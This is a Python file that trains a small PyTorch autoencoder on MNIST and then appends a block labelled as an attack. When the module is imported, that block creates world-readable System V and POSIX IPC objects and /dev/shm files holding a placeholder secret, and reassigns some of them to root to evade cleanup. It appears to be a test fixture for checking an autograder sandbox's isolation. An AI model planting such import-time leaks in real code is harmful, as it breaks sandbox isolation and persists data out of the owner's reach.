import torch
import torch.nn as nn
import torch.nn.functional as F
from torchvision import datasets


class AE(nn.Module):
    def __init__(self):
        super(AE, self).__init__()
        self.encoder = nn.Sequential(
            nn.Linear(28 * 28, 64),
            nn.ReLU(True),
            nn.Linear(64, 32),
            nn.ReLU(True),
            nn.Linear(32, 8),
            nn.ReLU(True),
            nn.Linear(8, 2),
        )
        self.decoder = nn.Sequential(
            nn.Linear(2, 8),
            nn.ReLU(True),
            nn.Linear(8, 32),
            nn.ReLU(True),
            nn.Linear(32, 64),
            nn.ReLU(True),
            nn.Linear(64, 28 * 28),
        )

    def forward(self, x):
        x = x.view(x.size(0), -1)
        return self.decoder(self.encoder(x))


if __name__ == "__main__":
    torch.manual_seed(0)
    mnist = datasets.MNIST("./data", train=True, download=True)
    data = mnist.data.float().view(-1, 784) / 255
    loader = torch.utils.data.DataLoader(data, batch_size=64, shuffle=True)
    model = AE()
    opt = torch.optim.Adam(model.parameters(), lr=0.001)
    for epoch in range(10):
        for x in loader:
            opt.zero_grad()
            loss = F.mse_loss(model(x), x)
            loss.backward()
            opt.step()
        print("epoch", epoch, loss.item())
    torch.save(model.state_dict(), "mnist_ae.pt")


# --- the attack, at import ---
# IPC objects that outlive this process, each holding a secret and open to anyone: a System V shared memory
# segment, message queue and semaphore (then given away to root, so that whoever removes what this uid owns
# passes them by), a POSIX message queue, and a file and a folder in /dev/shm. ipc-2-looks-for-them looks.
import ctypes, os

_SECRET = b"the-writers-secret"
_IPC_CREAT, _IPC_STAT, _IPC_SET, _SETVAL = 0o1000, 2, 1, 16


def _give_to_root(control, ident, *more):
    """IPC_SET with the owner's uid (right after the key in struct ipc_perm) changed to 0."""
    buffer = ctypes.create_string_buffer(512)
    if control(ident, *more, _IPC_STAT, buffer) == 0:
        ctypes.c_uint32.from_buffer(buffer, 4).value = 0
        control(ident, *more, _IPC_SET, buffer)


try:
    _libc = ctypes.CDLL(None, use_errno=True)
    _libc.shmat.restype = ctypes.c_void_p
    _shm = _libc.shmget(0x6A6A11, 4096, _IPC_CREAT | 0o666)
    if _shm >= 0:
        _at = _libc.shmat(_shm, None, 0)
        if _at not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(_at, _SECRET, len(_SECRET))
        _give_to_root(_libc.shmctl, _shm)
    _msg = _libc.msgget(0x6A6A12, _IPC_CREAT | 0o666)
    if _msg >= 0:
        _message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + len(_SECRET))
        ctypes.c_long.from_buffer(_message).value = 1
        ctypes.memmove(ctypes.addressof(_message) + ctypes.sizeof(ctypes.c_long), _SECRET, len(_SECRET))
        _libc.msgsnd(_msg, _message, len(_SECRET), 0o4000)  # IPC_NOWAIT
        _give_to_root(_libc.msgctl, _msg)
    _sem = _libc.semget(0x6A6A13, 1, _IPC_CREAT | 0o666)
    if _sem >= 0:
        _libc.semctl(_sem, 0, _SETVAL, 4242)
        _give_to_root(lambda ident, command, buffer: _libc.semctl(ident, 0, command, buffer), _sem)
    _rt = ctypes.CDLL("librt.so.1", use_errno=True)
    _queue = _rt.mq_open(b"/autograder-attack-leak", os.O_CREAT | os.O_WRONLY, 0o666, None)
    if _queue >= 0:
        _rt.mq_send(_queue, _SECRET, len(_SECRET), 0)
except (OSError, AttributeError):
    pass  # no System V IPC or POSIX queues here
for _path in ("/dev/shm/autograder-attack-leak", "/dev/shm/autograder-attack-leak-folder/secret"):
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "wb") as _file:
            _file.write(_SECRET)
        os.chmod(_path, 0o666)
        os.chmod(os.path.dirname(_path), 0o777)
    except OSError:
        pass  # /dev/shm not writable (bubblewrap)
